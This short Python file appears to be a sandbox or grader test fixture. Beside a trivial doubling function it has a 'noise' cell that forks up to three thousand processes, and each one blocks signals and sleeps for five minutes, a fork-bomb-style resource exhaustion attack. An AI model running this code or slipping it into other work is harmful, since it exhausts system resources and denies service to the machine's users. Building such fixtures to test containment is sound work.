"""Starts as many processes as it can, up to three thousand; each ignores signals and sleeps."""
# earns: double
# %% double
def double(x):
    return 2 * x
# %% noise
import os
import signal
import time

for _ in range(3000):
    try:
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            time.sleep(300)
            os._exit(0)
    except OSError:
        time.sleep(0.001)
